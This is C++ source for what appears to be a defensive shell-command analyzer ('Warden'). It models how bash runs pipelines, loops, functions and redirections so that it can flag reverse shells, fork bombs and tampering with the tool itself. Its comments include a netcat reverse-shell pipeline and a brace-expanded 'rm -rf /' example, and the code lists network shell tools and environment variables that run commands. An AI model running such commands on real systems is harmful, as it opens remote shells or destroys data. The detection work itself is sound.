// Statements: the IR walked the way bash would run it — sequences, pipelines, subshells,
// groups, conditionals and loops (each branch analyzed, their states merged), functions,
// assignments, redirections and simple commands, which go on to Exec.
#include <algorithm>
#include <optional>

#include "core/path.h"
#include "core/strings.h"
#include "shell/analyzer_impl.h"
#include "shell/analyzer_util.h"
#include "shell/parser.h"
#include "shell/self_protection.h"

namespace warden::shell {
namespace {

// A line continuation with no blank on either side: it joins two pieces of one word.
bool HasWordJoin(std::string_view s) {
  for (size_t i = 1; i + 2 < s.size(); ++i) {
    if (s[i] == '\\' && s[i + 1] == '\n' && !IsBlank(s[i - 1]) && !IsBlank(s[i + 2])) return true;
  }
  return false;
}

// "{rm,-rf,/}" at the start of a command: bash brace-expands it into a command line that the
// grammar does not recognize. The text as plain words.
bool IsBraceCommand(const Node& n) {
  return !n.text.empty() && n.text[0] == '{' && n.text.find(',') != std::string::npos &&
         n.text.find('}') != std::string::npos;
}

}  // namespace

Stream Analyzer::Script(std::string_view source, State& st, const Ctx& ctx, const Stream& in) {
  if (ctx.depth > opt_.max_depth) {
    Signal(kSignalDepthLimit, "shell code nested more than " + std::to_string(opt_.max_depth) +
                                  " levels deep (bash -c, eval, …) was not analyzed");
    return UnknownStream();
  }
  if (!HasWordJoin(source)) return ScriptOnce(source, st, ctx, in);
  // bash removes "\<newline>" before it splits words, so "r\<newline>m" is "rm"; tree-sitter
  // reads it as two words. Analyze both readings and keep both sets of facts: the union is
  // what either reading could run.
  State copy = st;
  ScriptOnce(source, copy, ctx, in);
  std::string joined;
  for (size_t i = 0; i < source.size(); ++i) {
    if (source[i] == '\\' && i + 1 < source.size() && source[i + 1] == '\n') {
      ++i;
      continue;
    }
    joined += source[i];
  }
  Stream s = ScriptOnce(joined, st, ctx, in);
  Merge(st, copy);
  return s;
}

Stream Analyzer::ScriptOnce(std::string_view source, State& st, const Ctx& ctx, const Stream& in) {
  ParseResult pr = Parse(source);
  size_t shown = 0;
  for (const auto& e : pr.errors) {
    if (++shown > 3) break;
    Signal(kSignalParseError, e.message + " (offset " + std::to_string(e.offset) + ")");
  }
  if (pr.too_deep) Signal(kSignalDepthLimit, "the command nests deeper than the parser follows");
  return Walk(pr.root, st, ctx, in);
}

Stream Analyzer::Walk(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  if (!Budget()) return UnknownStream();
  if (n.kind == Node::Kind::kSimple) return Simple(n, st, ctx, in);
  std::vector<std::pair<std::string, bool>> outputs;
  Stream input = Redirects(n.redirects, st, ctx, in, &outputs);
  Stream out = Compound(n, st, ctx, input);
  if (outputs.empty()) return out;
  Outputs(outputs, out, st);
  return Stream{};
}

Stream Analyzer::Compound(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  Stream out;
  switch (n.kind) {
    case Node::Kind::kSequence: return Sequence(n, st, ctx, in);
    case Node::Kind::kPipeline: return Pipeline(n, st, ctx, in);
    case Node::Kind::kSubshell: {
      State copy = st;
      for (const auto& c : n.children) out = Walk(c, copy, ctx, in);
      return out;
    }
    case Node::Kind::kGroup:
    case Node::Kind::kNegated:
      for (const auto& c : n.children) out = Walk(c, st, ctx, in);
      return out;
    case Node::Kind::kTest: return Test(n, st, ctx, in);
    case Node::Kind::kLoop:
      if (ReadLoop(n, st, ctx, in, &out)) return out;
      return Branches(n, st, ctx, in);
    case Node::Kind::kIf:
    case Node::Kind::kCase: return Branches(n, st, ctx, in);
    case Node::Kind::kFor: return For(n, st, ctx, in);
    case Node::Kind::kFunction: Function(n, st, ctx); return out;
    case Node::Kind::kError: return Error(n, st, ctx, in);
    case Node::Kind::kUnknown:
      Signal(kSignalUnknownConstruct, "the shell construct '" + n.text + "' is not understood");
      Branches(n, st, ctx, in);
      return UnknownStream();
    case Node::Kind::kSimple: break;
  }
  return out;
}

// if/while/case (and what a parser could not name): the words are expanded, each part may run.
Stream Analyzer::Branches(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  ScanWords(n.words, st, ctx);
  Stream out;
  for (const auto& c : n.children) out = Maybe(c, st, ctx, in);
  return out;
}

// [[ a -eq b ]] evaluates its operands' values as arithmetic.
Stream Analyzer::Test(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  Value scratch;
  for (const auto& w : n.words) {
    for (const auto& p : w.parts) {
      if (p.kind != WordPart::Kind::kParam || !p.op.empty()) continue;
      if (const Value* v = Lookup(p.text, st, &scratch); v && v->known) ScanEvaluated(v->text, "[[ … ]]", st, ctx);
    }
    if (w.parts.size() != 1 || w.parts[0].kind != WordPart::Kind::kText) continue;
    // A quoted operand such as 'a[$(cmd)]' is evaluated by -v and arithmetic operators.
    ScanEvaluated(w.parts[0].text, "[[ … ]]", st, ctx);
    if (!IsIdentifier(w.parts[0].text)) continue;
    if (const Value* v = Lookup(w.parts[0].text, st, &scratch); v && v->known) ScanEvaluated(v->text, "[[ … ]]", st, ctx);
  }
  return Branches(n, st, ctx, in);
}

Stream Analyzer::Error(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  Branches(n, st, ctx, in);
  if (!IsBraceCommand(n)) return UnknownStream();
  WordPart p;
  p.text = n.text.substr(0, n.text.find_first_of(" \t\n;&|"));
  Word w;
  w.parts.push_back(p);
  std::vector<Expanded> argv = ExpandWords({w}, st, ctx);
  for (size_t i = 1; i < n.words.size(); ++i) {
    auto more = ExpandWords({n.words[i]}, st, ctx);
    argv.insert(argv.end(), more.begin(), more.end());
  }
  State copy = st;
  Exec(std::move(argv), copy, ctx, in);
  return UnknownStream();
}

Stream Analyzer::Sequence(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  Stream last, taint;
  size_t produced = 0;
  for (size_t i = 0; i < n.children.size(); ++i) {
    const Node& child = n.children[i];
    std::string_view before = i > 0 && i - 1 < n.ops.size() ? std::string_view(n.ops[i - 1]) : ";";
    bool background = i < n.ops.size() && n.ops[i] == "&";
    Stream s;
    if (background) {
      Ctx c = ctx;
      c.concurrent = true;
      State copy = st;
      s = Walk(child, copy, c, in);
    } else if (before == "&&" || before == "||") {
      s = Maybe(child, st, ctx, in);
    } else {
      s = Walk(child, st, ctx, in);
    }
    if (s.kind != Stream::Kind::kNone) {
      ++produced;
      last = s;
    }
    if (s.tainted()) taint = s;
  }
  if (taint.tainted()) return taint;
  if (produced > 1) return UnknownStream();
  return last;
}

Stream Analyzer::Pipeline(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  Stream s = in;
  Ctx c = ctx;
  if (n.children.size() > 1) c.concurrent = true;
  const size_t first = out_->commands.size();
  for (const auto& child : n.children) {
    State copy = st;  // every stage runs in a subshell
    s = Walk(child, copy, c, s);
  }
  if (n.children.size() > 1) ShellOverNetwork(first);
  return s;
}

namespace {

bool IsNetworkTool(const CommandFact& f) {
  static constexpr std::string_view kTools[] = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
                                                "telnet", "cryptcat", "pwncat", "sbd", "websocat"};
  if (std::find(std::begin(kTools), std::end(kTools), f.name) != std::end(kTools)) return true;
  return f.name == "openssl" && f.argv.size() > 1 && f.argv[1] == "s_client";
}

// A shell that reads its commands from its input: -i, -s, or no script and no -c.
bool ShellReadingInput(const CommandFact& f) {
  if (LookupCommand(f.name).family != Family::kShell) return false;
  if (HasOption(f.options, {"-i", "-s"})) return true;
  return f.operands.empty() && !HasOption(f.options, {"-c"});
}

}  // namespace

// cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f: a shell and a network tool in one pipeline.
void Analyzer::ShellOverNetwork(size_t first) {
  bool shell = false, network = false;
  for (size_t k = first; k < out_->commands.size(); ++k) {
    shell = shell || ShellReadingInput(out_->commands[k]);
    network = network || IsNetworkTool(out_->commands[k]);
  }
  if (shell && network) Signal(kSignalReverseShell, "a shell reading its commands from a network connection");
}

Stream Analyzer::Maybe(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  State copy = st;
  Stream s = Walk(n, copy, ctx, in);
  Merge(st, copy);
  return s;
}

void Analyzer::Merge(State& into, const State& other) {
  for (const auto& c : other.cwds) {
    if (std::find(into.cwds.begin(), into.cwds.end(), c) == into.cwds.end()) into.cwds.push_back(c);
  }
  into.cwd_unknown = into.cwd_unknown || other.cwd_unknown || into.cwds.size() > kMaxCwds;
  if (into.cwds.size() > kMaxCwds) into.cwds.clear();
  // Variables: what both sides agree on stays known (nothing to do if they share storage).
  bool differ = false;
  for (const auto& [name, v] : into.vars) {
    auto it = other.vars.find(name);
    if (it == other.vars.end() || it->second.known != v.known || it->second.text != v.text) differ = true;
  }
  if (differ) {
    for (auto& [name, v] : into.vars.Mutable()) {
      auto it = other.vars.find(name);
      if (it == other.vars.end() || it->second.known != v.known || it->second.text != v.text) {
        if (v.known) v.known_start = v.text.substr(0, std::min(v.text.size(), kMaxValueBytes));
        v.known = false;
        if (it != other.vars.end() && it->second.taint.tainted()) v.taint = it->second.taint;
        if (it != other.vars.end()) v.bits |= it->second.bits & kArgWarden;
      }
    }
  }
  for (const auto& [name, v] : other.vars) {
    if (into.vars.find(name) == into.vars.end()) {
      Value u;
      u.taint = v.taint;
      u.bits = v.bits & kArgWarden;
      u.known_start = v.known ? v.text : v.known_start;  // what it starts with if it was set
      into.vars.emplace(name, u);
    }
  }
}

Stream Analyzer::For(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  if (IsWardenVariable(n.text)) Signal(kSignalWardenTamper, "the loop assigns " + n.text + ", which Warden's programs read");
  std::vector<Expanded> items = ExpandWords(n.words, st, ctx);
  bool all_known = std::none_of(items.begin(), items.end(), [](const Expanded& e) { return e.bits & kArgDynamic; });
  if (n.children.empty()) return Stream{};
  const Node& body = n.children[0];
  Stream out;
  // Literal lists run once per value, as long as nested loops stay small.
  int product = ctx.loop_product * static_cast<int>(std::max<size_t>(items.size(), 1));
  if (all_known && items.size() <= kMaxLoopItems && product <= kMaxLoopProduct) {
    Ctx c = ctx;
    c.loop_product = product;
    for (const auto& item : items) {
      State copy = st;
      Value v;
      v.text = item.text;
      v.known = true;
      v.bits = item.bits;
      copy.vars[n.text] = v;
      out = Walk(body, copy, c, in);
      Merge(st, copy);
    }
    return out;
  }
  State copy = st;
  Value v;
  for (const auto& item : items) {
    if (item.taint.tainted()) v.taint = item.taint;
    v.bits |= item.bits & kArgWarden;
  }
  copy.vars[n.text] = v;
  out = Walk(body, copy, ctx, in);
  Merge(st, copy);
  return out;
}

// while read …; do BODY; done over known input (a here-string, echo … |, a file redirected
// in that was written earlier): BODY runs once per line with what `read` took from it, as For
// runs once per item. False (nothing done) for other loops and unknown input.
bool Analyzer::ReadLoop(const Node& n, State& st, const Ctx& ctx, const Stream& in, Stream* out) {
  if (n.children.size() != 2 || in.kind != Stream::Kind::kLiteral) return false;
  const Node* cond = &n.children[0];
  while (cond->kind == Node::Kind::kSequence && cond->children.size() == 1) cond = &cond->children[0];
  if (cond->kind != Node::Kind::kSimple || cond->words.empty() || cond->words[0].parts.size() != 1 ||
      cond->words[0].parts[0].kind != WordPart::Kind::kText || cond->words[0].parts[0].text != "read") {
    return false;
  }
  std::vector<std::string_view> lines = Split(in.text, '\n');
  if (!lines.empty() && lines.back().empty()) lines.pop_back();
  const int product = ctx.loop_product * static_cast<int>(std::max<size_t>(lines.size(), 1));
  if (lines.empty() || lines.size() > kMaxLoopItems || product > kMaxLoopProduct) return false;
  Ctx c = ctx;
  c.loop_product = product;
  for (std::string_view line : lines) {
    State copy = st;
    Stream one = in;  // keeps where the text came from (decoded, fetched)
    one.text = std::string(line) + "\n";
    Walk(*cond, copy, c, one);
    *out = Walk(n.children[1], copy, c, Stream{});
    Merge(st, copy);
  }
  return true;
}

void Analyzer::Function(const Node& n, State& st, const Ctx& ctx) {
  if (n.children.empty()) return;
  FunctionDef& def = functions_[n.text];
  def.body = std::make_shared<Node>(n.children[0]);
  def.state = st;
  def.ctx = ctx;
}

Stream Analyzer::CallFunction(const std::string& name, const std::vector<Expanded>& argv, State& st, const Ctx& ctx,
                              const Stream& in) {
  FunctionDef& def = functions_[name];
  def.called = true;
  if (std::find(call_stack_.begin(), call_stack_.end(), name) != call_stack_.end()) {
    if (ctx.concurrent) {
      Signal(kSignalForkBomb, "function '" + name + "' starts copies of itself in the background or a pipeline");
    }
    return UnknownStream(name);
  }
  if (static_cast<int>(call_stack_.size()) >= kMaxCallDepth) {
    Signal(kSignalDepthLimit, "functions call each other more than " + std::to_string(kMaxCallDepth) + " levels deep");
    return UnknownStream(name);
  }
  std::shared_ptr<Node> body = def.body;  // keep alive if redefined while running
  // Positional parameters for the call; the caller's come back afterwards.
  std::map<std::string, Value> saved;
  for (const char* k : kPositionalNames) {
    if (auto it = st.vars.find(k); it != st.vars.end()) saved[k] = it->second;
  }
  SetPositional(st, argv, 1);
  call_stack_.push_back(name);
  Stream out = Walk(*body, st, Inner(ctx, "", false, "function " + name), in);
  call_stack_.pop_back();
  for (const char* k : kPositionalNames) st.vars.erase(k);
  for (auto& [k, v] : saved) st.vars[k] = v;
  return out;
}

void Analyzer::AnalyzeUncalledFunctions() {
  // A function never called here may still be called later (or by a script it is sourced
  // into): analyze its body once, with unknown arguments.
  for (bool again = true; again;) {
    again = false;
    for (auto& [name, def] : functions_) {
      if (def.called || !def.body) continue;
      def.called = true;
      State st = def.state;
      std::vector<Expanded> none{Expanded{}};
      none[0].text = name;
      Value unknown;
      for (const char* k : {"1", "2", "3", "@", "*"}) st.vars[k] = unknown;
      call_stack_.push_back(name);
      std::shared_ptr<Node> body = def.body;  // keep alive if redefined while running
      Walk(*body, st, Inner(def.ctx, "", false, "function " + name), Stream{});
      call_stack_.pop_back();
      again = true;
      break;
    }
  }
}

void Analyzer::ScanWords(const std::vector<Word>& words, State& st, const Ctx& ctx) {
  for (const auto& w : words) Expand(w, st, ctx);
}

Stream Analyzer::Redirects(const std::vector<Redirect>& redirects, State& st, const Ctx& ctx, const Stream& in,
                           std::vector<std::pair<std::string, bool>>* outputs) {
  Stream input = in;
  for (const auto& r : redirects) {
    if (r.op == "<<" || r.op == "<<-") {
      Expanded body = Expand(r.heredoc, st, ctx);
      if (body.bits & kArgDynamic) {
        input = body.taint.tainted() ? body.taint : UnknownStream("here-document");
      } else {
        input = LiteralStream(body.text, "here-document");
      }
      continue;
    }
    Expanded t = Expand(r.target, st, ctx);
    if (r.op == "<<<") {
      if (t.bits & kArgDynamic) {
        input = t.taint.tainted() ? t.taint : UnknownStream("here-string");
      } else {
        input = LiteralStream(t.text + "\n", "here-string");
      }
      continue;
    }
    bool fd_dup = (r.op == ">&" || r.op == "<&") &&
                  (t.text == "-" || (!t.text.empty() && t.text.find_first_not_of("0123456789-") == std::string::npos));
    if (fd_dup) continue;
    std::string source = "redirect " + r.op;
    if (r.op == "<") {
      if (t.procsub) {
        input = t.procsub_stream;
        continue;
      }
      AddFile(FileOp::kRead, t.text, t.bits, false, source, -1, st);
      Stream f;
      f.kind = Stream::Kind::kFile;
      f.text = t.text;
      f.source = "file";
      bool dynamic = false;
      for (const auto& p : Resolve(t.text, st, &dynamic)) {
        f.warden = f.warden || NamesWarden(p, opt_.self) || mem_.warden_files.count(FollowLinks(p));
      }
      f.warden = f.warden || (t.bits & kArgWarden);
      input = f;
    } else if (r.op == "<>") {
      AddFile(FileOp::kRead, t.text, t.bits, false, source, -1, st);
      AddFile(FileOp::kWrite, t.text, t.bits, false, source, -1, st);
    } else {
      if (t.procsub) continue;  // > >(cmd): the command was analyzed during expansion
      AddFile(FileOp::kWrite, t.text, t.bits, false, source, -1, st);
      if (r.fd <= 1 && !(t.bits & kArgDynamic)) outputs->emplace_back(t.text, r.op == ">>" || r.op == "&>>");
    }
  }
  return input;
}

// What a command's output does to the files it is redirected to: they hold known text, or
// they are downloads (then running them is running downloaded code).
void Analyzer::Outputs(const std::vector<std::pair<std::string, bool>>& outputs, const Stream& out, const State& st) {
  for (const auto& [path, append] : outputs) {
    bool dynamic = false;
    for (const auto& p : Resolve(path, st, &dynamic)) {
      if (dynamic) break;
      std::string real = FollowLinks(p);
      if (out.tainted()) mem_.tainted[real] = out.source;
      if (out.kind == Stream::Kind::kLiteral) {
        mem_.contents[real] = append && mem_.contents.count(real) ? mem_.contents[real] + out.text : out.text;
      } else {
        mem_.contents.erase(real);
      }
      if (out.kind == Stream::Kind::kFile && !append) CopiedProgram(out.text, real, st);
      if (out.warden) mem_.warden_files.insert(real);
    }
  }
}

// `cat /usr/bin/warden > x` copies a program as surely as cp does: x keeps its name.
void Analyzer::CopiedProgram(const std::string& from, const std::string& to, const State& st) {
  bool dynamic = false;
  auto sources = Resolve(from, st, &dynamic);
  if (dynamic || sources.size() != 1) return;
  std::string a = FollowLinks(sources[0]);
  mem_.exec_names[to] = mem_.exec_names.count(a) ? mem_.exec_names[a] : std::string(Basename(a));
}

// What a variable assigned `value` holds: its text when known, else the literal start.
Value Analyzer::AssignedValue(const Expanded& value) {
  Value val;
  val.known = !(value.bits & kArgDynamic) && value.text.size() <= kMaxValueBytes;
  if (val.known) {
    val.text = value.text;
  } else if (value.bits & kArgDynamic) {
    val.known_start = value.text.substr(0, std::min(value.text.find('$'), kMaxValueBytes));
  }
  val.bits = value.bits & (kArgGlob | kArgPattern | kArgTree | kArgWarden);
  val.taint = value.taint;
  return val;
}

void Analyzer::Assign(const std::string& name, const Expanded& value, bool nameref, State& st, const Ctx& ctx) {
  Value val;
  if (nameref) {
    // declare -n r=HOME: r is another name for HOME.
    if (MentionsWardenVariable(value.text)) Signal(kSignalWardenTamper, name + " refers to " + value.text + ", which Warden's programs read");
    Value scratch;
    if (const Value* target = Lookup(value.text, st, &scratch)) val = *target;
    st.vars[name] = val;
    return;
  }
  val = AssignedValue(value);
  if (!IsIdentifier(name)) val.known = false;
  st.vars[name] = std::move(val);
  if (name == "PATH") PathChanged(value, st, ctx);
  // Values evaluated later — by the shell (prompts, PROMPT_COMMAND) or the programs it starts
  // (PAGER, GIT_SSH_COMMAND, …) — and array subscripts in values used in arithmetic.
  EvaluatedLater(name, value, st, ctx);
  if (value.text.find("[$(") != std::string::npos || value.text.find("[`") != std::string::npos) {
    ScanEvaluated(value.text, "subscript", st, ctx);
  }
}

// NAME=(a b c): the items, when each is known.
std::optional<std::vector<Expanded>> Analyzer::ArrayItems(const Word& value, State& st, const Ctx& ctx) {
  if (value.parts.size() != 1 || value.parts[0].kind != WordPart::Kind::kOpaque) return std::nullopt;
  std::vector<Expanded> items = ExpandWords(value.parts[0].inner, st, ctx);
  for (const auto& e : items) {
    if (e.bits & kArgDynamic) return std::nullopt;
  }
  return items;
}

void SetArray(State& st, const std::string& name, const std::vector<Expanded>& items) {
  Value v;
  v.known = true;
  for (const auto& e : items) {
    v.words.push_back(e.text);
    v.bits |= e.bits & (kArgGlob | kArgPattern | kArgTree | kArgWarden);
  }
  v.text = v.words.empty() ? std::string() : v.words[0];  // $a is ${a[0]}
  st.vars[name] = std::move(v);
}

void SetPositional(State& st, const std::vector<Expanded>& words, size_t first) {
  for (const char* k : kPositionalNames) st.vars.erase(k);
  Value all;
  all.known = true;
  for (size_t i = first; i < words.size(); ++i) {
    Value v;
    v.known = !(words[i].bits & kArgDynamic);
    v.text = v.known ? words[i].text : std::string();
    v.bits = words[i].bits & (kArgGlob | kArgTree | kArgPattern | kArgWarden);
    v.taint = words[i].taint;
    if (i - first < 64) st.vars[std::to_string(i - first + 1)] = v;  // $1…$9, ${10}…
    all.text += (i > first ? " " : "") + words[i].text;
    all.words.push_back(words[i].text);
    all.known = all.known && v.known;
    all.bits |= v.bits;
    if (v.taint.tainted()) all.taint = v.taint;
  }
  st.vars["@"] = all;
  st.vars["*"] = all;
  Value count;
  count.known = true;
  count.text = std::to_string(words.size() > first ? words.size() - first : 0);
  st.vars["#"] = count;
}

Stream Analyzer::Simple(const Node& n, State& st, const Ctx& ctx, const Stream& in) {
  std::vector<std::pair<std::string, Expanded>> assigns;
  std::map<std::string, std::vector<Expanded>> arrays;  // NAME=(a b c) with every item known
  for (const auto& a : n.assignments) {
    Expanded v = Expand(a.value, st, ctx, true);
    if (a.array && !a.append) {
      if (auto items = ArrayItems(a.value, st, ctx)) arrays[a.name] = std::move(*items);
    }
    if ((a.array && !arrays.count(a.name)) || a.append) v.bits |= kArgDynamic;
    assigns.emplace_back(a.name, std::move(v));
  }
  std::vector<Expanded> argv = ExpandWords(n.words, st, ctx);
  std::vector<std::pair<std::string, bool>> outputs;
  Stream input = Redirects(n.redirects, st, ctx, in, &outputs);
  if (argv.empty() || n.declaration) {
    Declare(assigns, argv, st, ctx);
    for (const auto& [name, items] : arrays) SetArray(st, name, items);
    if (!argv.empty()) return Stream{};  // export/declare/local …
    // Only a redirection: "$(< file)" is the file's text.
    if (outputs.empty()) return input.kind == Stream::Kind::kLiteral || input.kind == Stream::Kind::kFile ? input : Stream{};
    Outputs(outputs, input, st);
    return Stream{};
  }
  // "(( expr ))" reads as a command whose only word is arithmetic: nothing runs (but it may assign).
  if (n.words.size() == 1 && n.words[0].parts.size() == 1 && n.words[0].parts[0].kind == WordPart::Kind::kArith) {
    if (MentionsWardenVariable(n.words[0].parts[0].text)) {
      Signal(kSignalWardenTamper, "arithmetic assigns a WARDEN_ variable, which Warden's programs read");
    }
    return Stream{};
  }
  CommandVariables(assigns, st, ctx, input);
  Stream out = WithTemporaryVariables(assigns, std::move(argv), st, ctx, input);
  if (outputs.empty()) return out;
  Outputs(outputs, out, st);
  return Stream{};
}

// NAME=value alone, or export/declare/local/readonly NAME=value: the variables stay set.
void Analyzer::Declare(const std::vector<std::pair<std::string, Expanded>>& assigns,
                       const std::vector<Expanded>& argv, State& st, const Ctx& ctx) {
  bool nameref = false;
  for (size_t i = 1; i < argv.size(); ++i) {
    const std::string& t = argv[i].text;
    if (t.size() > 1 && t[0] == '-' && t.find('n') != std::string::npos) nameref = true;
  }
  for (const auto& [name, v] : assigns) {
    if (IsWardenVariable(name)) Signal(kSignalWardenTamper, "sets " + name + ", which Warden's programs read");
    Assign(name, v, nameref, st, ctx);
  }
  // The arguments may hold subscripts that get evaluated.
  for (size_t i = 1; i < argv.size(); ++i) {
    if (MentionsWardenVariable(argv[i].text) || (argv[i].bits & kArgWarden)) {
      Signal(kSignalWardenTamper, argv[0].text + " " + argv[i].text + ", which Warden's programs read");
    }
    ScanEvaluated(argv[i].text, argv[0].text, st, ctx);
  }
}

// Variables set for one command (VAR=val cmd): what programs evaluate from them.
void Analyzer::CommandVariables(const std::vector<std::pair<std::string, Expanded>>& assigns, State& st,
                                const Ctx& ctx, const Stream& in) {
  for (const auto& [name, v] : assigns) {
    if (IsWardenVariable(name)) Signal(kSignalWardenTamper, "sets " + name + ", which Warden's programs read");
    EvaluatedLater(name, v, st, ctx, in);
  }
}

namespace {

// Variables whose value a program runs as a command line: git's and ssh's helpers, editors,
// pagers, browsers, less's preprocessors, rsync's remote shell.
bool RunsAsCommand(std::string_view name) {
  static constexpr std::string_view kCommandVars[] = {
      "GIT_SSH_COMMAND", "GIT_SSH", "GIT_PROXY_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_EDITOR", "GIT_PAGER",
      "GIT_SEQUENCE_EDITOR", "GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS", "EDITOR", "VISUAL", "FCEDIT", "PAGER",
      "MANPAGER", "SYSTEMD_PAGER", "BROWSER", "LESSOPEN", "LESSCLOSE", "RSYNC_RSH", "CVS_RSH", "PROMPT_COMMAND"};
  return std::find(std::begin(kCommandVars), std::end(kCommandVars), name) != std::end(kCommandVars);
}

}  // namespace

void Analyzer::EvaluatedLater(const std::string& name, const Expanded& value, State& st, const Ctx& ctx,
                              const Stream& in) {
  if (RunsAsCommand(name)) {
    Expanded c = value;
    if (!c.text.empty() && c.text[0] == '|') c.text.erase(0, 1);  // LESSOPEN='|cmd %s'
    CodeString(c, name, st, ctx, {}, {}, name == "PROMPT_COMMAND");
  } else if (name == "PS0" || name == "PS1" || name == "PS2" || name == "PS4") {
    ScanEvaluated(value.text, name, st, ctx);
  } else if ((name == "BASH_ENV" || name == "ENV") && value.procsub) {
    CodeStream(value.procsub_stream, name, -1, st, ctx);  // BASH_ENV=<(…): read by the next shell
  } else if (StartupFromEnvironment(name, value, st, ctx, in)) {
    // PYTHONSTARTUP, NODE_OPTIONS, ZDOTDIR, BASH_ENV=FILE…: their code, as far as it is known
  } else if (name.rfind("BASH_FUNC_", 0) == 0) {
    // BASH_FUNC_ls%%='() { …; }': bash defines ls from it; the body runs when ls is called.
    Expanded body = value;
    const size_t open = body.text.find('{');
    const size_t close = body.text.rfind('}');
    body.text = open != std::string::npos && close != std::string::npos && close > open
                    ? body.text.substr(open + 1, close - open - 1)
                    : body.text;
    CodeString(body, name, st, ctx);
  } else if ((name == "LD_PRELOAD" || name == "LD_AUDIT") && !value.text.empty()) {
    Signal(kSignalDynamicScript, name + " loads " + Printable(value.text, 80) + " into every program started");
  } else if (!(value.bits & kArgDynamic)) {
    CommandInSetting(name, value.text, st, ctx);  // FOO_RUNNER='CMD', X_COMMAND=… for any tool
  }
}

// VAR=value cmd: the variables hold for this command only (a builtin like cd sees them).
Stream Analyzer::WithTemporaryVariables(const std::vector<std::pair<std::string, Expanded>>& assigns,
                                        std::vector<Expanded> argv, State& st, const Ctx& ctx, const Stream& in) {
  std::vector<std::pair<std::string, std::optional<Value>>> saved;
  for (const auto& [name, v] : assigns) {
    if (!IsIdentifier(name)) continue;
    auto it = st.vars.find(name);
    saved.emplace_back(name, it == st.vars.end() ? std::nullopt : std::optional<Value>(it->second));
    st.vars[name] = AssignedValue(v);
    if (name == "PATH") PathChanged(v, st, ctx);
  }
  Stream out = Exec(std::move(argv), st, ctx, in);
  for (auto it = saved.rbegin(); it != saved.rend(); ++it) {
    if (it->second) {
      st.vars[it->first] = *it->second;
    } else {
      st.vars.erase(it->first);
    }
  }
  return out;
}

}  // namespace warden::shell
